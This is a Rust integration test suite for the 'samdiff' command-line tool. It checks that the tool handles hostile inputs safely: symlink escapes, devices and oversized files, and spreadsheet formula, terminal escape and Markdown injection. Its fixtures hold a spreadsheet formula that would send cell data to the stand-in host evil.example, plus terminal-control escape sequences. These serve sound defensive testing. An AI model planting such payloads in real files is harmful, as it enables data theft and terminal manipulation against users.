//! The hostile-input catalogue (issue 15): each defect of the directed
//! attack, run through the real binary, with its exact message and exit
//! code. The fuzz harness that keeps the class fixed is `tests/fuzz.rs`.

use assert_cmd::Command;
use std::fs;
use std::path::Path;
use std::time::Duration;

const GOOD: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/good");

fn fixture_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("sources")).unwrap();
    for f in ["test-2020.json", "test-2022.json"] {
        fs::copy(Path::new(GOOD).join(f), dir.path().join(f)).unwrap();
    }
    for f in ["overview-2020.txt", "overview-2022.txt"] {
        fs::copy(
            Path::new(GOOD).join("sources").join(f),
            dir.path().join("sources").join(f),
        )
        .unwrap();
    }
    dir
}

/// Run `samdiff ARGS` in `dir` through `sh` with `umask`; return (exit
/// code, stdout, stderr). A liveness guard of 60 s stops a hang from
/// stalling the suite (the work bound itself is a unit test).
fn run_umask(dir: &Path, umask: &str, args: &[&str]) -> (i32, String, String) {
    let bin = assert_cmd::cargo::cargo_bin("samdiff");
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("umask {umask}; exec \"$0\" \"$@\""))
        .arg(bin)
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("LC_ALL", "C")
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
    run_umask(dir, "022", args)
}

/// Defect 1: one line of 23 marks under 46 columns hung the pdf-text
/// import (every placement was tried); it now ends, all columns unknown.
#[test]
fn pdf_text_with_many_columns_ends() {
    let d = tempfile::tempdir().unwrap();
    let marks = vec!["x"; 23].join(" ");
    fs::write(
        d.path().join("doc.txt"),
        format!("Oversikt per 1. januar 2021\n\nSamarbeid Avtale\n\n{marks}\n"),
    )
    .unwrap();
    let cols: Vec<String> = (1..=46).map(|i| format!("M{i}")).collect();
    let cols = cols.join(",");
    let (code, out, err) = run(
        d.path(),
        &[
            "import",
            "--layout",
            "pdf-text",
            "--columns",
            &cols,
            "--scope",
            "M1",
            "doc.txt",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let p = v["arrangements"][0]["participation"].as_object().unwrap();
    assert_eq!(p.len(), 46);
    assert!(p.values().all(|x| x == "unknown"), "{out}");
}

/// Defect 4: a source symlinked outside the set is refused, even with a
/// matching checksum, and nothing about the outside file is revealed.
#[cfg(unix)]
#[test]
fn symlinked_source_outside_the_set_is_refused() {
    let d = fixture_copy();
    let outside = tempfile::tempdir().unwrap();
    let src = d.path().join("sources/overview-2020.txt");
    let copy = outside.path().join("secret.txt");
    fs::rename(&src, &copy).unwrap();
    std::os::unix::fs::symlink(&copy, &src).unwrap();
    let (code, out, err) = run(d.path(), &["validate", "test-2020.json"]);
    assert_eq!(
        err,
        "error: test-2020.json:27:13: source file `sources/overview-2020.txt` cannot be read: source `sources/overview-2020.txt` is not a file inside the set's sources/ folder (after following symlinks)\n"
    );
    assert_eq!(out, "1 problem in 1 file; 0 snapshots valid\n");
    assert_eq!(code, 1);
    // A link that stays inside sources/ is fine.
    fs::rename(&copy, d.path().join("sources/real.txt")).unwrap();
    fs::remove_file(&src).unwrap();
    std::os::unix::fs::symlink("real.txt", &src).unwrap();
    let (code, _, err) = run(d.path(), &["validate", "test-2020.json"]);
    assert_eq!((code, err.as_str()), (0, ""));
}

/// Defect 5: devices, pipes and oversized files are refused before any
/// read, with exit 2; `--max-size` raises or lowers the limit.
#[cfg(unix)]
#[test]
fn unbounded_inputs_are_refused_before_reading() {
    let d = fixture_copy();
    let dev = "not a regular file (a device): samdiff reads only regular files";
    let (code, _, err) = run(d.path(), &["import", "/dev/zero"]);
    assert_eq!(err, format!("error: /dev/zero:1:1: {dev}\n"));
    assert_eq!(code, 2);
    let (code, out, err) = run(d.path(), &["validate", "/dev/zero"]);
    assert_eq!(err, format!("error: /dev/zero:1:1: {dev}\n"));
    assert_eq!(out, "1 problem in 1 file; 0 snapshots valid\n");
    assert_eq!(code, 2);
    let (code, _, err) = run(d.path(), &["--registry", "/dev/zero", "audit"]);
    assert_eq!(err, format!("error: /dev/zero:1:1: {dev}\n"));
    assert_eq!(code, 2);
    let fifo = d.path().join("pipe");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let (code, _, err) = run(d.path(), &["import", "pipe"]);
    assert_eq!(
        err,
        "error: pipe:1:1: not a regular file (a named pipe): samdiff reads only regular files\n"
    );
    assert_eq!(code, 2);
    let (code, _, err) = run(d.path(), &["--max-size", "100", "validate", "."]);
    assert!(
        err.starts_with("error: ./test-2020.json:1:1: file too large ("),
        "{err}"
    );
    assert!(
        err.contains("bytes): expected an overview of at most 100 bytes\n  hint: is this the right file? raise the limit with --max-size BYTES\n"),
        "{err}"
    );
    assert_eq!(code, 2);
}

/// Defect 6: `-o` never replaces a device, a link or a read-only file, and
/// new files follow the umask for every command that writes one.
#[cfg(unix)]
#[test]
fn output_files_replace_only_regular_files_and_follow_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let d = fixture_copy();
    fn imp(o: &str) -> Vec<&str> {
        vec![
            "import",
            "sources/overview-2020.txt",
            "--layout",
            "table",
            "--as-of",
            "2020-01-01",
            "--scope",
            "Alpha",
            "-o",
            o,
        ]
    }
    let (code, _, err) = run(d.path(), &[imp("/dev/null"), vec!["--force"]].concat());
    assert_eq!(
        err,
        "error: `/dev/null` is not a regular file: samdiff writes output only to regular files\n"
    );
    assert_eq!(code, 2);
    fs::write(d.path().join("target.json"), "keep").unwrap();
    std::os::unix::fs::symlink("target.json", d.path().join("link.json")).unwrap();
    let (code, _, err) = run(d.path(), &[imp("link.json"), vec!["--force"]].concat());
    assert_eq!(
        err,
        "error: `link.json` is a symbolic link: samdiff neither writes through a link nor replaces it; name the file itself\n"
    );
    assert_eq!(code, 2);
    assert_eq!(
        fs::read_to_string(d.path().join("target.json")).unwrap(),
        "keep"
    );
    fs::set_permissions(
        d.path().join("target.json"),
        fs::Permissions::from_mode(0o444),
    )
    .unwrap();
    let (code, _, err) = run(d.path(), &[imp("target.json"), vec!["--force"]].concat());
    assert_eq!(
        err,
        "error: `target.json` is read-only: samdiff does not replace a protected file\n"
    );
    assert_eq!(code, 2);
    let mode = |f: &str| fs::metadata(d.path().join(f)).unwrap().permissions().mode() & 0o777;
    for (umask, expected) in [("022", 0o644), ("077", 0o600)] {
        let imported = format!("import-{umask}.json");
        let report = format!("report-{umask}.md");
        let (code, _, err) = run_umask(d.path(), umask, &imp(&imported));
        assert_eq!(code, 0, "{err}");
        let (code, _, err) = run_umask(d.path(), umask, &["report", "-o", &report]);
        assert_eq!(code, 0, "{err}");
        assert_eq!((mode(&imported), mode(&report)), (expected, expected));
    }
    let left: Vec<String> = fs::read_dir(d.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".samdiff-"))
        .collect();
    assert!(left.is_empty(), "temporary files left: {left:?}");
}

/// Rewrite `file` in `dir` by replacing `from` with `to` (which must occur).
fn edit(dir: &Path, file: &str, from: &str, to: &str) {
    let p = dir.join(file);
    let s = fs::read_to_string(&p).unwrap();
    assert!(s.contains(from), "fixture lacks {from:?}");
    fs::write(p, s.replacen(from, to, 1)).unwrap();
}

/// Two raw overviews; the second adds a row whose name is a formula and
/// whose comment would make Markdown structure.
fn raw_pair(dir: &Path) {
    fs::write(
        dir.join("a.tsv"),
        "Oversikt per 1. januar 2020\nOmråde\tForm\tA\tB\tMerknad\nPolitikk\t\t\t\t\nRåd\tAvtale\tx\tx\tMed fylket\n",
    )
    .unwrap();
    fs::write(
        dir.join("b.tsv"),
        "Oversikt per 1. januar 2021\nOmråde\tForm\tA\tB\tMerknad\nPolitikk\t\t\t\t\nRåd\tAvtale\tx\tx\tMed fylket\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\tAvtale\tx\t\t# heading\n@SUM(1)\tAvtale\tx\t\t-1\n",
    )
    .unwrap();
}

/// Defect 2: a cell that a spreadsheet would run as a formula is written
/// as text (a leading `'`) in `excel` and `csv` output.
#[test]
fn formulas_in_csv_and_excel_output_are_neutralised() {
    let d = tempfile::tempdir().unwrap();
    raw_pair(d.path());
    for format in ["csv", "excel"] {
        let (code, out, err) = run(d.path(), &["diff", "a.tsv", "b.tsv", "--format", format]);
        assert_eq!(code, 0, "{err}");
        assert!(
            out.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","),
            "{format}: {out}"
        );
        assert!(out.contains(",'@SUM(1),"), "{format}: {out}");
        for line in out.lines() {
            for cell in line.split(',') {
                assert!(
                    !cell.trim_matches('"').starts_with(['=', '+', '@']),
                    "{format}: live formula in {line}"
                );
            }
        }
    }
}

/// Defect 3: control characters in snapshot text are refused at
/// validation with path:line:col, and never echoed raw in messages.
#[test]
fn control_characters_are_refused_and_never_echoed() {
    let d = fixture_copy();
    edit(
        d.path(),
        "test-2020.json",
        "\"name\": \"Regional council\"",
        "\"name\": \"Regional council\\u001b]0;owned-title\\u0007\"",
    );
    let (code, out, err) = run(d.path(), &["validate", "test-2020.json"]);
    assert_eq!(
        err,
        "error: test-2020.json:54:15: control character U+001B in text: expected printable text (control characters can act on a terminal)\n"
    );
    assert_eq!(out, "1 problem in 1 file; 0 snapshots valid\n");
    assert_eq!(code, 1);
    edit(
        d.path(),
        "test-2022.json",
        "\"id\": \"test-2022\"",
        "\"id\": \"\\u001b[2J\"",
    );
    let (code, _, err) = run(d.path(), &["validate", "test-2022.json"]);
    assert_eq!(
        err,
        "error: test-2022.json:3:9: control character U+001B in text: expected printable text (control characters can act on a terminal)\n"
    );
    assert_eq!(code, 1);
    // A file name is echoed with its control characters made visible.
    let (code, _, err) = run(d.path(), &["validate", "\u{1b}]0;owned\u{7}.json"]);
    assert_eq!(
        err,
        "error: \\u{1b}]0;owned\\u{7}.json: cannot read: no such file or directory\n"
    );
    assert_eq!(code, 2);
}

/// Defect 7: a value cannot make Markdown structure, and `-o` writes what
/// stdout shows.
#[test]
fn markdown_values_stay_on_their_line_and_files_equal_stdout() {
    let d = tempfile::tempdir().unwrap();
    raw_pair(d.path());
    let (code, out, err) = run(
        d.path(),
        &["diff", "a.tsv", "b.tsv", "--format", "markdown"],
    );
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("**=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")**"),
        "{out}"
    );
    assert!(!out.lines().any(|l| l.starts_with("# heading")), "{out}");
    let (code, _, err) = run(d.path(), &["report", "-o", "r.md"]);
    assert_eq!(code, 0, "{err}");
    let (_, stdout, _) = run(d.path(), &["report"]);
    assert_eq!(fs::read_to_string(d.path().join("r.md")).unwrap(), stdout);
}

/// Defect 8: one date rule for import and validation.
#[test]
fn import_never_writes_a_date_validation_rejects() {
    let d = tempfile::tempdir().unwrap();
    fs::write(
        d.path().join("doc.tsv"),
        "Oversikt per 1. januar 99999\nOmråde\tForm\tA\tB\tMerknad\nRåd\tAvtale\tx\tx\t\n",
    )
    .unwrap();
    let (code, out, err) = run(d.path(), &["import", "--layout", "table", "doc.tsv"]);
    assert_eq!(
        err,
        "error: doc.tsv:1:1: no date found (such as \"per 1. januar 2021\"): pass --as-of YYYY-MM-DD or --as-of YYYY\n"
    );
    assert_eq!((code, out.as_str()), (2, ""));
    let (code, _, err) = run(
        d.path(),
        &["import", "--layout", "table", "--as-of", "0000", "doc.tsv"],
    );
    assert_eq!(
        err,
        "error: --as-of: invalid date `0000`: expected YYYY, YYYY-MM or YYYY-MM-DD with a real calendar day\n"
    );
    assert_eq!(code, 2);
}

/// Defect 9: each load error once, with its location; a binary source is
/// called a binary document, not JSON.
#[test]
fn errors_are_located_and_printed_once() {
    let d = fixture_copy();
    fs::write(d.path().join("bad.json"), "{}").unwrap();
    let once = "error: bad.json:1:1: missing field `format`: expected \"samdiff-snapshot/1\"\n";
    for cmd in ["diff", "match"] {
        let (code, _, err) = run(d.path(), &[cmd, "bad.json", "test-2020.json"]);
        assert_eq!(err, once, "{cmd}");
        assert_eq!(code, 2, "{cmd}");
    }
    fs::write(d.path().join("sources/overview-2020.txt"), b"a\0b").unwrap();
    let (code, _, err) = run(d.path(), &["validate", "test-2020.json"]);
    assert!(
        err.contains("binary file (NUL byte): expected a text document"),
        "{err}"
    );
    assert_eq!(code, 1);
}

/// Defect 6: Ctrl-C while `import -o` writes leaves no temporary file. The
/// test waits for the temporary file to appear, interrupts, and checks it
/// is gone and the process died of the signal.
#[cfg(unix)]
#[test]
fn interrupt_during_output_removes_the_temporary_file() {
    use std::fmt::Write as _;
    use std::os::unix::process::ExitStatusExt;
    let d = tempfile::tempdir().unwrap();
    let mut doc = String::from("Oversikt per 1. januar 2021\nOmråde\tForm\tA\tB\tMerknad\n");
    for i in 0..15_000 {
        writeln!(
            doc,
            "Samarbeid nummer {i}\tAvtale\tx\tx\tMed fylket og flere kommuner {i}"
        )
        .unwrap();
    }
    fs::write(d.path().join("huge.tsv"), doc).unwrap();
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("samdiff"))
        .args([
            "--max-size",
            "20000000",
            "import",
            "--layout",
            "table",
            "huge.tsv",
            "-o",
            "out.json",
        ])
        .current_dir(d.path())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let temp_files = || {
        fs::read_dir(d.path())
            .unwrap()
            .filter(|e| {
                e.as_ref()
                    .unwrap()
                    .file_name()
                    .to_string_lossy()
                    .starts_with(".samdiff-")
            })
            .count()
    };
    let started = std::time::Instant::now();
    let mut seen = false;
    while started.elapsed() < Duration::from_secs(120) {
        if temp_files() > 0 {
            seen = true;
            break;
        }
        if child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    if !seen {
        let _ = child.kill();
        let _ = child.wait();
        eprintln!("the write finished before its temporary file was seen; nothing to interrupt");
        return;
    }
    // The child may finish between the look and the signal: `kill` then
    // has nothing to interrupt, which is fine.
    let pid = child.id().to_string();
    let _ = std::process::Command::new("kill")
        .args(["-INT", &pid])
        .status();
    let status = child.wait().unwrap();
    eprintln!("interrupted: {:?}", status.signal());
    // Whoever won the race, no temporary file remains, and the output is
    // either absent or complete (the rename may land just before the
    // signal): never half a file.
    assert_eq!(temp_files(), 0, "temporary file left after Ctrl-C");
    let out = d.path().join("out.json");
    if out.exists() {
        let text = fs::read_to_string(&out).unwrap();
        assert!(
            serde_json::from_str::<serde_json::Value>(&text).is_ok(),
            "out.json is not complete JSON"
        );
    } else {
        assert_eq!(status.signal(), Some(2), "no output and not interrupted");
    }
}

/// Defect 3: a file name is data too; its control characters never reach
/// stdout raw.
#[test]
fn control_characters_in_file_names_are_written_visibly() {
    let d = tempfile::tempdir().unwrap();
    raw_pair(d.path());
    let evil = "b\u{1b}]0;owned\u{7}.tsv";
    fs::rename(d.path().join("b.tsv"), d.path().join(evil)).unwrap();
    for format in ["text", "markdown", "csv"] {
        let (code, out, err) = run(
            d.path(),
            &["diff", "a.tsv", evil, "--format", format, "--evidence"]
                [..if format == "text" { 6 } else { 5 }],
        );
        assert_eq!(code, 0, "{err}");
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{7}'),
            "{format}: {out}"
        );
        assert!(!err.contains('\u{1b}'), "{err}");
        // Visible (Markdown escapes the backslash and the bracket again).
        assert!(
            out.contains("u{1b}") && out.contains("u{7}.tsv"),
            "{format}: {out}"
        );
    }
}

/// Defect 3, registry side: the registry loader refuses control characters
/// too (one parser for snapshot and registry files).
#[test]
fn control_characters_in_the_registry_are_refused() {
    let d = tempfile::tempdir().unwrap();
    let reg = fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/snapshots/registry.json"
    ))
    .unwrap()
    .replacen(
        "\"label_en\": \"Local Government Act 1992 § 27",
        "\"label_en\": \"\\u001b[2JLocal Government Act 1992 § 27",
        1,
    );
    fs::write(d.path().join("reg.json"), reg).unwrap();
    let (code, _, err) = run(d.path(), &["--registry", "reg.json", "audit"]);
    assert_eq!(
        err,
        "error: reg.json:7:19: control character U+001B in text: expected printable text (control characters can act on a terminal)\n"
    );
    assert_eq!(code, 2);
}

/// Issue 16: `diff --key` of a register over the size limit is refused
/// from the file's size, before a byte is read (a sparse 16 GiB file would
/// take minutes and all memory to read), with exit 2 and the hint to raise
/// the limit.
#[cfg(unix)]
#[test]
fn keyed_diff_refuses_an_oversized_register_before_reading_it() {
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("small.csv"), "id,Navn,A,B\n1,Råd,x,\n").unwrap();
    let big = fs::File::create(d.path().join("big.csv")).unwrap();
    big.set_len(16 << 30).unwrap();
    drop(big);
    let started = std::time::Instant::now();
    let (code, out, err) = run(d.path(), &["diff", "big.csv", "small.csv", "--key", "id"]);
    assert_eq!(code, 2, "{err}");
    assert_eq!(out, "");
    assert!(
        err.starts_with("error: big.csv:1:1: file too large (17179869184 bytes): expected an overview of at most 8388608 bytes\n  hint: is this the right file? raise the limit with --max-size BYTES"),
        "{err}"
    );
    assert!(started.elapsed() < Duration::from_secs(20));
    // Raised, the limit still holds above the new value.
    let (code, _, err) = run(
        d.path(),
        &[
            "--max-size",
            "1000",
            "diff",
            "small.csv",
            "big.csv",
            "--key",
            "id",
        ],
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("big.csv:1:1: file too large"), "{err}");
}

/// A quoted cell printed over two lines (a name and a comment, in a
/// Windows-1252 `;` CSV with CRLF): the text changelog keeps one change a
/// line, with the breaks folded, and the change cites every line the row
/// is printed on, on both paths (`diff --key` and `import`).
#[test]
fn a_cell_over_two_lines_is_one_line_of_text_and_cited_on_both_lines() {
    let d = tempfile::tempdir().unwrap();
    let cp1252 = |s: &str| -> Vec<u8> {
        s.chars()
            .map(|c| match c {
                'ø' => 0xF8,
                c => c as u8,
            })
            .collect()
    };
    let table = |comment: &str| {
        cp1252(&format!(
            "Org.nr;Navn;Gausdal;Lillehammer;Merknad\r\n\
             1;\"Brann og\r\nredning\";x;x;\"Første linje\r\n{comment} linje\"\r\n\
             2;Barnevern;x;x;Ok\r\n"
        ))
    };
    fs::write(d.path().join("a.csv"), table("andre")).unwrap();
    fs::write(d.path().join("b.csv"), table("tredje")).unwrap();
    let (code, out, err) = run(
        d.path(),
        &["diff", "a.csv", "b.csv", "--key", "Org.nr", "--evidence"],
    );
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains(
            "    - Brann og redning [brann-og-redning]: comment changed: Første linje [-andre-]{+tredje+} linje\n"
        ),
        "{out}"
    );
    for n in 2..=4 {
        assert!(
            out.contains(&format!("before sources/a.csv:{n}: ")),
            "{out}"
        );
        assert!(
            out.contains(&format!("after  sources/b.csv:{n}: ")),
            "{out}"
        );
    }
    // Every line of the report is a heading, a change or an indented
    // continuation: no fragment of a cell starts a line.
    for line in out.lines().skip(2) {
        assert!(
            line.is_empty() || line.starts_with(' '),
            "{line:?} in\n{out}"
        );
    }
    let (code, json, err) = run(
        d.path(),
        &[
            "diff", "a.csv", "b.csv", "--key", "Org.nr", "--format", "json",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let change = &v["changes"][0];
    assert_eq!(change["kind"], "comment_changed", "{json}");
    assert_eq!(
        change["evidence"]["before"]["lines"],
        serde_json::json!([2, 3, 4])
    );
    // The data keep the break as printed.
    assert_eq!(change["before"], "Første linje\nandre linje", "{json}");
    let (code, snap, err) = run(
        d.path(),
        &[
            "import",
            "a.csv",
            "--key",
            "Org.nr",
            "--as-of",
            "2022",
            "--scope",
            "Gausdal,Lillehammer",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&snap).unwrap();
    let a = &v["arrangements"][0];
    assert_eq!(a["name"], "Brann og\nredning", "{snap}");
    assert_eq!(a["provenance"][0]["lines"], serde_json::json!([2, 3, 4]));
}
